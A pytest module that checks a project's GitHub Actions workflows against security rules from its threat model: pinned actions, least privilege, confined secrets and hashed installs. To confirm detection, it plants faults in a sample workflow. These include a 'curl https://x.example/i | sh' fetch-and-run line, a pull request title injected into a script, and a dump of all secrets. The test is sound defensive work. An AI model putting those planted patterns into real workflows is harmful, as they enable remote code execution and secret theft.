"""Workflows conform to GitHub's schemas, to actionlint and zizmor, and to the rules of docs/threat-model.md."""

import os
import re
import subprocess
import sys
import tomllib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from packaging.requirements import Requirement
from ruamel.yaml import YAML

ENVIRONMENTS = {
    "snowflake-ci": {"MESHFLOW_SNOWFLAKE_USER": "CI"},
    "snowflake-load": {"MESHFLOW_SNOWFLAKE_LOADER_USER": "LOADER"},
    "snowflake-prod": {"MESHFLOW_SNOWFLAKE_USER": "TRANSFORMER"},
}
"""The environments with secrets, and as whom their jobs may sign in to Snowflake."""

TRUSTED_REFS = {"main", "${{ github.sha }}"}
"""The refs that a privileged job, started by a pull request or a comment, may check out at the root."""

VALID_WORKFLOW = """\
name: Valid
on:
  # Main's tools only.
  pull_request_target: # zizmor: ignore[dangerous-triggers]
permissions: {}
jobs:
  deploy:
    runs-on: ubuntu-24.04
    timeout-minutes: 5
    permissions:
      contents: write
    environment: snowflake-prod
    concurrency:
      group: prod
      cancel-in-progress: false
      queue: max
    steps:
      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1
        with:
          ref: ${{ github.sha }}
          persist-credentials: false
      - uses: $/.github/actions/setup
        with:
          locks: snowflake
      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1
        with:
          ref: refs/pull/${{ github.event.number }}/merge
          path: change
          persist-credentials: false
      - run: .venv/bin/meshflow ci deploy --sha "$SHA"
        env:
          SHA: ${{ github.event.pull_request.head.sha }}
          MESHFLOW_STATE_PASSWORD: ${{ secrets.MESHFLOW_STATE_PASSWORD }}
"""

FAULTS = {
    "permissions for every job": ("permissions: {}\njobs", "permissions: read-all\njobs", "top level: permissions"),
    "no permissions at the top": ("permissions: {}\njobs", "jobs", "top level: permissions"),
    "a job without permissions": ("    permissions:\n      contents: write\n", "", "deploy: no permissions"),
    "a job with all permissions": ("permissions:\n      contents: write", "permissions: write-all", "deploy: no perm"),
    "a job without a timeout": ("    timeout-minutes: 5\n", "", "deploy: no timeout-minutes"),
    "an action by its tag": ("3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1", "v7", "not pinned: actions/checkout"),
    "a pinned action without its version": (" # v7.0.1", "", "not pinned: actions/checkout@3d3c42e5"),
    "an action of the pull request": ("$/.github", "./change/.github", "not pinned: ./change"),
    "a checkout that keeps the token": ("persist-credentials: false", "fetch-depth: 1", "deploy: checkout keeps"),
    "a pull request checked out over main's tools": ("          path: change\n", "", "deploy: refs/pull/"),
    "a head instead of main's tools": ("${{ github.sha }}", "${{ github.head_ref }}", "deploy: ${{ github.head_ref }}"),
    "a title in a script": ('"$SHA"', '"${{ github.event.pull_request.title }}"', "deploy: expression in a script"),
    "a branch name in a script": ('"$SHA"', "${{ github.head_ref }}", "deploy: expression in a script"),
    "a secret in a script": ('"$SHA"', '"${{ secrets.TOKEN }}"', "deploy: expression in a script"),
    "a secret for all steps": ("    steps:", "    env: {T: '${{ secrets.TOKEN }}'}\n    steps:", "outside of a step"),
    "a secret for an action": ("locks: snowflake", "locks: ${{ secrets['TOKEN'] }}", "outside of a step"),
    "all secrets at once": ("${{ secrets.MESHFLOW_STATE_PASSWORD }}", "${{ toJSON(secrets) }}", "all secrets"),
    "secrets of the repository": ("    environment: snowflake-prod\n", "", "deploy: secrets without"),
    "secrets of another environment": ("snowflake-prod", "production", "deploy: secrets without"),
    "prod changed by two jobs at once": ("group: prod", "group: ${{ github.ref }}", "deploy: changes prod outside"),
    "a cancelled deploy": ("cancel-in-progress: false", "cancel-in-progress: true", "deploy: changes prod outside"),
    "a deploy that a run cancels": ("      queue: max\n", "", "deploy: changes prod outside"),
    "an installation without hashes": ("meshflow ci deploy", "pip install sqlmesh", "deploy: installs"),
    "an installation by a script": (".venv/bin/meshflow ci", "curl https://x.example/i | sh", "deploy: installs"),
    "the setup of the pull request": (".venv/bin/meshflow ci", "make -C change dev ;", "deploy: runs make or pip"),
    "an exception without its reason": ("  # Main's tools only.\n", "", "unexplained: pull_request_target"),
    "secrets for forks": ("pull_request_target: #", "pull_request: #", "deploy: secrets for a fork"),
    "an identity that no step needs": (
        "contents: write\n", "contents: write\n      id-token: write\n", "deploy: an identity that no step",
    ),
    "a login without an identity": (
        "    steps:", "    env: {MESHFLOW_SNOWFLAKE_USER: CI}\n    steps:", "deploy: signs in without an identity",
    ),
    "a login as another user": (
        "    steps:", "    env: {MESHFLOW_SNOWFLAKE_USER: CI}\n    steps:", "deploy: signs in as the user of another",
    ),
    "an identity of any job on a branch": (
        "contents: write\n    environment: snowflake-prod\n", "id-token: write\n", "deploy: an identity without an env",
    ),
    "write access for forks": ("pull_request_target: #", "pull_request: #", "deploy: write access for a fork"),
}  # fmt: skip


def strings(node: object, path: tuple[str, ...] = ()) -> Iterator[tuple[tuple[str, ...], str]]:
    """Every string in a YAML document, with the path of keys to it; `*` is an element of a list."""
    if isinstance(node, dict):
        for key, value in node.items():
            yield from strings(value, (*path, str(key)))
    elif isinstance(node, list):
        for value in node:
            yield from strings(value, (*path, "*"))
    elif isinstance(node, str):
        yield path, node


def violations(text: str) -> Iterator[str]:
    """Violations of the project's own rules in the text of a workflow."""
    workflow = YAML(typ="safe").load(text)
    if workflow.get("permissions") != {}:
        yield "top level: permissions aren't {}"
    yield from unpinned(text)
    yield from unexplained(text)
    for path, value in strings(workflow):
        if re.search(r"\bsecrets\b", value) and "${{" in value:
            if not re.search(r"secrets\.\w+", value):
                yield f"all secrets at once: {value}"
            if not (path[0] == "jobs" and path[2:5] == ("steps", "*", "env")):
                yield f"a secret outside of a step's env: {'.'.join(path)}"
    for name, job in workflow["jobs"].items():
        for violation in job_violations(set(workflow["on"]), job):
            yield f"{name}: {violation}"


def job_violations(events: set[str], job: dict[str, Any]) -> Iterator[str]:
    if not isinstance(job.get("permissions"), dict):
        yield "no permissions of its own"
    if "timeout-minutes" not in job:
        yield "no timeout-minutes"

    secrets = {name for _, value in strings(job) for name in re.findall(r"secrets\.(\w+)", value)}
    environment = job.get("environment")
    if secrets and environment not in ENVIRONMENTS:
        yield "secrets without an environment that serves main only"
    if "pull_request" in events and secrets:
        yield "secrets for a fork"
    if "pull_request" in events and "write" in (job.get("permissions") or {}).values():
        yield "write access for a fork"

    concurrency = {"group": "prod", "cancel-in-progress": False, "queue": "max"}
    if (
        environment == "snowflake-prod"
        and "MESHFLOW_STATE_PASSWORD" in secrets
        and job.get("concurrency") != concurrency
    ):
        yield "changes prod outside of the queue"

    yield from identity_violations(job)
    for step in job["steps"]:
        yield from step_violations(events, step)


def identity_violations(job: dict[str, Any]) -> Iterator[str]:
    has_identity = isinstance(job.get("permissions"), dict) and job["permissions"].get("id-token") == "write"
    users = {name: value for name, value in job.get("env", {}).items() if re.fullmatch(r"MESHFLOW_.*_USER", name)}
    users.pop("MESHFLOW_STATE_USER", None)
    publishes = any(step.get("uses", "").startswith("actions/deploy-pages@") for step in job["steps"])
    if has_identity and not (users or publishes):
        yield "an identity that no step needs"
    if has_identity and not job.get("environment"):
        yield "an identity without an environment, which any job on a branch could have"
    if users and not has_identity:
        yield "signs in without an identity"
    if users and users != ENVIRONMENTS.get(job.get("environment", "")):
        yield "signs in as the user of another environment"


def step_violations(events: set[str], step: dict[str, Any]) -> Iterator[str]:
    script, options = step.get("run", ""), step.get("with", {})
    if "${{" in script + options.get("script", ""):
        yield "expression in a script, where a title could become code"
    if re.search(r"\b(pip3?|pipx|uvx?|npm|npx|apt-get|apt)\s+(install|pip|tool|run|add)\b|\b(curl|wget)\b", script):
        yield "installs packages that no lock pins"
    if re.search(r"\b(make|pip)\b.*\bchange\b|\bcd change\b", script):
        yield "runs make or pip in the pull request"
    if step.get("uses", "").startswith("actions/checkout@"):
        if options.get("persist-credentials") is not False:
            yield "checkout keeps the token"
        ref = options.get("ref", "")
        privileged = events & {"pull_request_target", "issue_comment", "workflow_run"}
        if privileged and ref not in TRUSTED_REFS and options.get("path") != "change":
            yield f"{ref} checked out over main's tools"


def unpinned(text: str) -> Iterator[str]:
    for used in re.findall(r"^\s*(?:- )?uses: *(.*)$", text, re.MULTILINE):
        if not re.fullmatch(r"[\w.-]+/[\w./-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+|[.$]/\.github/actions/[\w-]+", used):
            yield f"not pinned: {used}"


def unexplained(text: str) -> Iterator[str]:
    """Exceptions to a checker without a comment in the line above."""
    lines = text.splitlines()
    for above, line in zip(["", *lines], lines, strict=False):
        if re.search(r"#\s*(zizmor: ignore|shellcheck disable|pragma: allowlist)", line) and not re.match(
            r"\s*# \w", above
        ):
            yield f"unexplained: {line.strip()}"


@pytest.fixture(scope="session")
def workflows(project: Path) -> list[Path]:
    found = sorted((project / ".github/workflows").glob("*.y*ml"))
    assert {file.stem for file in found} >= {"ci", "pr-environment", "pr-close", "deploy", "run", "weekly"}
    return found


def test_every_workflow_follows_the_rules(workflows: list[Path]) -> None:
    found = [f"{file.name}: {it}" for file in workflows for it in violations(file.read_text(encoding="utf-8"))]
    assert found == []


def test_a_valid_workflow_has_no_violations() -> None:
    assert list(violations(VALID_WORKFLOW)) == []


@pytest.mark.parametrize("fault", FAULTS)
def test_a_violation_is_found(fault: str) -> None:
    old, new, violation = FAULTS[fault]
    assert old in VALID_WORKFLOW
    assert any(violation in it for it in violations(VALID_WORKFLOW.replace(old, new)))


def test_actions_of_the_project_are_pinned_and_use_no_secret(project: Path) -> None:
    actions = list((project / ".github/actions").glob("*/action.yml"))
    assert actions
    for file in actions:
        text = file.read_text(encoding="utf-8")
        assert list(unpinned(text)) == []
        assert "secrets" not in text
        for step in YAML(typ="safe").load(text)["runs"]["steps"]:
            assert list(step_violations(set(), step)) == []


def test_make_installs_only_packages_hashed_in_a_lock(project: Path) -> None:
    rules = re.findall(r"^(\S*\.venv\S+): (.*)\n\t(.*)$", (project / "Makefile").read_text(), re.MULTILINE)
    assert [command for *_, command in rules] == ["@$(PYTHON) requirements/install $@ $<"] * 2
    assert all(prerequisites.startswith("requirements/%.lock ") for _, prerequisites, _ in rules)
    assert "pip install" not in (project / "Makefile").read_text()
    script = (project / "requirements/install").read_text()
    installs = [line for line in script.splitlines() if line.lstrip().startswith(("_run(*uv", "_run(*pip"))]
    assert len(installs) == 4
    for line in installs:
        assert '"--require-hashes"' in line or '"--no-deps", "--no-build-isolation", "--editable", "."' in line


def test_jobs_for_pull_requests_never_get_the_secrets_of_prod(workflows: list[Path]) -> None:
    """Pull requests sign in as CI. Only the deploy behind the gate and scheduled jobs sign in as TRANSFORMER."""
    for file in workflows:
        workflow = YAML(typ="safe").load(file.read_text(encoding="utf-8"))
        if "pull_request_target" in workflow["on"]:
            for name, job in workflow["jobs"].items():
                assert job.get("environment") in {"snowflake-ci", None}, f"{file.name}: {name}"


def test_every_job_that_signs_in_to_snowflake_has_an_identity_and_these_are_all(workflows: list[Path]) -> None:
    jobs = {
        f"{file.stem}/{name}": job.get("environment")
        for file in workflows
        for name, job in YAML(typ="safe").load(file.read_text(encoding="utf-8"))["jobs"].items()
        if job["permissions"].get("id-token") == "write"
    }
    assert jobs == {
        "deploy/deploy": "snowflake-prod",
        "pages/publish": "github-pages",
        "pr-environment/environment": "snowflake-ci",
        "run/load": "snowflake-load",
        "run/run": "snowflake-prod",
        "weekly/check": "snowflake-prod",
        "weekly/reconcile": "snowflake-load",
    }


@pytest.mark.parametrize("passphrase", ["", "secret"])
def test_nothing_is_encrypted_without_a_passphrase(project: Path, tmp_path: Path, passphrase: str) -> None:
    """An unset secret is an empty text, which OpenSSL accepts."""
    action = project / ".github/actions/upload-encrypted/action.yml"
    encrypt, upload = YAML(typ="safe").load(action.read_text(encoding="utf-8"))["runs"]["steps"]
    (tmp_path / "errors.log").write_text("ann@example.org\n")
    environment = os.environ | {"FILE": "errors.log", "MESHFLOW_EXPORT_PASSPHRASE": passphrase}
    command = ["bash", "-e", "-c", encrypt["run"]]
    done = subprocess.run(command, cwd=tmp_path, env=environment, capture_output=True, check=False)
    assert (done.returncode == 0) == (tmp_path / "errors.log.enc").exists() == bool(passphrase), done
    assert upload["with"]["path"] == "${{ inputs.file }}.enc"


def test_errors_and_the_state_are_uploaded_encrypted_only(workflows: list[Path]) -> None:
    texts = "\n".join(file.read_text(encoding="utf-8") for file in workflows)
    assert texts.count("uses: $/.github/actions/upload-encrypted\n") == 6
    plain = re.findall(r"uses: actions/upload-artifact@.*\n +with:\n(?: +\w.*\n)*? +path: (.*)", texts)
    assert set(plain) == {
        "test.json", "catalog.txt", "build.json", "data/catalog/index.html", ".cache/sbom", ".cache/screenshots",
    }  # fmt: skip


def test_every_job_that_reads_approvals_may_read_the_events_of_a_pull_request(workflows: list[Path]) -> None:
    """`meshflow.ci.reviews` reads them for changes of the base branch."""
    commands = ("meshflow ci gate", "meshflow ci admit", "meshflow ci deploy")
    found = [
        job["permissions"].get("issues")
        for file in workflows
        for job in YAML(typ="safe").load(file.read_text(encoding="utf-8"))["jobs"].values()
        if any(command in step.get("run", "") for step in job["steps"] for command in commands)
    ]
    assert found == ["read"] * 3


def test_no_job_that_loads_a_pull_request_has_a_token_that_may_write(project: Path) -> None:
    file = project / ".github/workflows/pr-environment.yml"
    jobs = YAML(typ="safe").load(file.read_text(encoding="utf-8"))["jobs"]
    loads = re.compile(r"meshflow ci (lint|build)\b|meshflow catalog build\b|\bsqlmesh|\bpython\b|\bmake\b")
    loading = {name: [step for step in job["steps"] if loads.search(step.get("run", ""))] for name, job in jobs.items()}
    assert {name for name, steps in loading.items() if steps} == {"test", "environment"}
    for name in ("test", "environment"):
        # An identity for Snowflake writes nothing at GitHub.
        assert "write" not in [value for scope, value in jobs[name]["permissions"].items() if scope != "id-token"]
        assert not [step for step in loading[name] if "GITHUB_TOKEN" in step.get("env", {})]
    assert [name for name, job in jobs.items() if job["permissions"].get("checks") == "write"] == ["admit", "report"]
    written = [value for _, value in strings(jobs["report"])]
    assert not [value for value in written if "secrets." in value or value == "change"]


def test_no_line_that_a_change_wrote_is_a_command_of_the_workflow(project: Path, tmp_path: Path) -> None:
    """The runner obeys `::add-mask::` and others that a step prints, until a text that the change can't know."""
    file = project / ".github/workflows/pr-environment.yml"
    steps = YAML(typ="safe").load(file.read_text(encoding="utf-8"))["jobs"]["test"]["steps"]
    [script] = [step["run"] for step in steps if "cat catalog.txt" in step.get("run", "")]
    (tmp_path / "catalog.txt").write_text("::add-mask::success\n")
    printing = script[script.index("token=") :]
    command = ["bash", "-e", "-c", printing]
    output = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, check=True).stdout.splitlines()
    token = output[0].removeprefix("::stop-commands::")
    assert output == [f"::stop-commands::{token}", "::add-mask::success", f"::{token}::"]
    assert len(token) > 30


def check(name: str, *arguments: str | Path) -> subprocess.CompletedProcess[str]:
    command = [str(Path(sys.prefix, "bin", name)), *map(str, arguments)]
    return subprocess.run(command, capture_output=True, text=True, check=False)


def actionlint(file: Path) -> subprocess.CompletedProcess[str]:
    return check("actionlint", file)


def zizmor(file: Path) -> subprocess.CompletedProcess[str]:
    return check("zizmor", "--offline", "--pedantic", "--strict-collection", "--no-progress", file)


def schema(file: Path) -> subprocess.CompletedProcess[str]:
    return check("check-jsonschema", "--builtin-schema", "vendor.github-workflows", file)


@pytest.mark.parametrize(
    ("checker", "old", "new"),
    [
        (actionlint, '"$SHA"', '"${{ steps.nowhere.outputs.sha }}"'),
        (zizmor, "persist-credentials: false", "fetch-depth: 1"),
        (schema, "timeout-minutes: 5", "timeout-minutes: soon"),
    ],
)
def test_checkers_accept_every_workflow_and_find_a_planted_fault(
    checker: Callable[[Path], subprocess.CompletedProcess[str]],
    old: str, new: str, workflows: list[Path], tmp_path: Path,
) -> None:  # fmt: skip
    for file in workflows:
        checked = checker(file)
        assert checked.returncode == 0, checked.stdout + checked.stderr

    text = workflows[[file.stem for file in workflows].index("deploy")].read_text(encoding="utf-8")
    text = re.sub(r"timeout-minutes: \d+", "timeout-minutes: 5", text)
    assert old in text
    planted = tmp_path / ".github/workflows/deploy.yml"
    planted.parent.mkdir(parents=True)
    planted.write_text(text.replace(old, new, 1), encoding="utf-8")
    assert checker(planted).returncode != 0


@pytest.mark.parametrize(
    ("name", "pattern", "required"),
    [
        ("dependabot", "dependabot.yml", "version: 2"),
        ("github-issue-forms", "ISSUE_TEMPLATE/[!c]*.yml", "body:"),
        ("github-issue-config", "ISSUE_TEMPLATE/config.yml", "blank_issues_enabled: true"),
        ("github-actions", "actions/*/action.yml", "runs:"),
    ],
)
def test_other_files_conform_to_their_schema(
    name: str, pattern: str, required: str, project: Path, tmp_path: Path
) -> None:
    files = list((project / ".github").glob(pattern))
    checked = check("check-jsonschema", "--builtin-schema", f"vendor.{name}", *files)
    assert checked.returncode == 0, checked.stdout

    text = files[0].read_text(encoding="utf-8")
    assert required in text
    planted = tmp_path / files[0].name
    planted.write_text(text.replace(required, f"planted_{required}"), encoding="utf-8")
    assert check("check-jsonschema", "--builtin-schema", f"vendor.{name}", planted).returncode == 1


def requirements(text: str) -> Iterator[Requirement]:
    """The direct requirements in a pyproject.toml, from all its lists."""
    project = tomllib.loads(text)
    lists = [
        project["project"]["dependencies"],
        *project["project"]["optional-dependencies"].values(),
        *project["dependency-groups"].values(),
    ]
    for requirement in (entry for entries in lists for entry in entries if isinstance(entry, str)):
        yield Requirement(requirement)


def unmet_requirements(text: str, locks: list[str]) -> list[str]:
    """Requirements of a pyproject.toml that the version in a lock doesn't meet."""
    unmet = []
    for requirement in requirements(text):
        pattern = re.compile(rf"^{re.escape(requirement.name)}(?:\[[\w,]+\])?==([\w.]+)", re.MULTILINE | re.IGNORECASE)
        versions = {version for lock in locks for version in pattern.findall(lock)}
        assert versions, requirement
        unmet += [f"{requirement}: {version}" for version in versions if version not in requirement.specifier]
    return unmet


def test_a_bound_raised_by_dependabot_fails_until_the_locks_are_updated(project: Path) -> None:
    text = (project / "pyproject.toml").read_text(encoding="utf-8")
    # The emulator's environment has other bounds.
    locks = [file.read_text() for file in (project / "requirements").glob("*.lock") if file.stem != "emulator"]
    assert unmet_requirements(text, locks) == []
    raised = text.replace('"sqlmesh==0.236.4"', '"sqlmesh==0.999.0"').replace("ruff>=0.14", "ruff>=99")
    assert {it.split(":")[0] for it in unmet_requirements(raised, locks)} == {"sqlmesh==0.999.0", "ruff>=99"}


def test_dependabot_upgrades_sqlmesh_and_sqlglot_in_a_separate_pull_request(project: Path) -> None:
    updates = YAML(typ="safe").load((project / ".github/dependabot.yml").read_text(encoding="utf-8"))["updates"]
    (python,) = (update for update in updates if update["package-ecosystem"] == "uv")
    groups = python["groups"]
    assert groups["sqlmesh"]["patterns"] == ["sqlmesh*", "sqlglot*"]
    assert all(group["exclude-patterns"] == ["sqlmesh*", "sqlglot*"] for n, group in groups.items() if n != "sqlmesh")
    assert all(update["cooldown"]["default-days"] >= 7 for update in updates)


def test_the_runbook_names_every_secret_and_variable_of_the_workflows(project: Path, workflows: list[Path]) -> None:
    page = (project / "docs/runbooks/github.md").read_text(encoding="utf-8")
    names = {
        name
        for file in workflows
        for name in re.findall(r"\b(?:secrets|vars)\.(\w+)", file.read_text(encoding="utf-8"))
    }
    assert names
    assert {name for name in names if f"`{name}`" not in page} == set()


def test_code_owners_are_set_for_existing_paths(project: Path) -> None:
    lines = (project / ".github/CODEOWNERS").read_text(encoding="utf-8").splitlines()
    paths = [line.split()[0] for line in lines if line and not line.startswith("#")]
    assert paths[0] == "*"
    assert [path for path in paths[1:] if not (project / path.lstrip("/")).exists()] == []


def test_every_threat_names_a_test_that_exists(project: Path) -> None:
    """In the last cell of a row, as `tests/suite/test_file.py::test_name`."""
    text = (project / "docs/threat-model.md").read_text(encoding="utf-8").partition("## Threats")[2]
    rows = [line for line in text.splitlines() if re.match(r"\| (?!.*\| test \|$)", line)]
    assert len(rows) > 15
    for row in rows:
        assert_named_tests_exist(project, row.split(" | ")[-1])


def test_every_residual_risk_names_a_test_that_exists_or_says_why_there_is_none(project: Path) -> None:
    text = (project / "docs/threat-model.md").read_text(encoding="utf-8").partition("## Residual risks\n")[2]
    risks = [" ".join(one.split()) for one in text.split("\n- ")[1:]]
    assert len(risks) > 15
    for risk in risks:
        if not re.search(r"No test\b[^:.]*: \w", risk):
            assert "Test: `" in risk, risk
        if "`tests/" in risk:
            assert_named_tests_exist(project, risk)


def assert_named_tests_exist(project: Path, text: str) -> None:
    named = re.findall(r"`(tests/[^`]*)`", text)
    assert named, text
    for test in named:
        file, _, name = test.partition("::")
        assert f"\ndef {name}(" in (project / file).read_text(encoding="utf-8"), test


def test_ci_test_installs_every_lock_that_the_workflows_install(project: Path) -> None:
    """Else the first workflow run under test would install it, into the environment that runs the tests."""
    [needed] = re.findall(r"^ci-test: (.*?) ##", (project / "Makefile").read_text(encoding="utf-8"), re.MULTILINE)
    locks = [
        lock
        for file in (project / ".github/workflows").glob("*.yml")
        for found in re.findall(r"^ +locks: (.*)$", file.read_text(encoding="utf-8"), re.MULTILINE)
        for lock in found.split()
    ]
    assert {"loading", "snowflake"} <= set(locks)
    assert {f".venv/{lock}.installed" for lock in locks} - {".venv/base.installed"} <= set(needed.split())
